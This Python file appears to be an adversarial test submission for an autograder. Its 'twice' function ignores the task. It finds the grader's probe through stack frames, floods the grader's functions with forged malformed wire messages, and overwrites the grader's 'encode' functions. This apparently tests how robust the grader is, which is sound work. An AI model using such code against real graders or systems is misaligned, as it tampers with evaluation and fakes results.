"""Raw messages with giant shapes, wrong lengths, endless nesting and no bytes at all go where values go.

ours: twice=0
rest: any
"""
# %% solution twice
import struct, sys

def head(name, *shape, size, tag=b"A"):
    return b"CW1" + tag + struct.pack(">B", len(name)) + name.encode() + struct.pack(f">B{len(shape)}Q", len(shape), *shape) + struct.pack(">Q", size)

forged = [
    b"", b"CW1", b"CW2T", b"CW1" + b"l\0\0\0\1" * 100_000, b"CW1l\xff\xff\xff\xff", head("float64", 2**63, 2, size=0), head("float64", 2**62, 4, size=0),
    head("int8", 0, 2**63, size=0), head("float64", 2, 3, size=2**63), head("float64", 2, 3, size=48) + bytes(47), head("object", 1, size=8) + bytes(8),
    head("float64", *[1] * 33, size=8) + bytes(8), b"CW1i" + struct.pack(">I", 2**31) + b"1", b"CW1o", b"CW1r\0\0\0\x1fs", b"CW1s\0\0\0\1\xff", "CW1T", None, 7,
]

def sends(function, seen):
    for cell in getattr(function, "__closure__", None) or ():
        value = cell.cell_contents
        if callable(value) and id(value) not in seen:
            seen[id(value)] = value
            sends(value, seen)
    return list(seen.values())

def twice(x):
    frame, probe = sys._getframe(1), None
    while frame and not probe:
        probe, frame = frame.f_globals.get("__probe__"), frame.f_back
    for call in sends(probe, {}):
        for message in forged:
            for messages in ([message], [message] * 1000, message):
                try:
                    call(0, 0, messages)
                except Exception:
                    pass
    module = sys.modules.get("course.grading.wire")
    if module:
        module.encode = lambda value: forged[5]
    for name, value in list(getattr(probe, "__globals__", {}).items()):
        if name == "encode":
            probe.__globals__[name] = lambda value: forged[6]
    return x
